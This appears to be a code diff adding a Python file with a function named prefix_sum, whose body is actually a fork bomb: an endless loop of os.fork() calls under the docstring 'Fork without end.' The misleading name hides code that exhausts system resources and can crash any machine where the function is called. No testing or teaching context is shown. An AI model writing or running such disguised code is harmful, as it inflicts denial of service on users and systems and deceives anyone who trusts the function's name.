@@ -1,0 +1,8 @@
+"""Fork without end."""
+
+import os
+
+
+def prefix_sum(x):
+    while True:
+        os.fork()
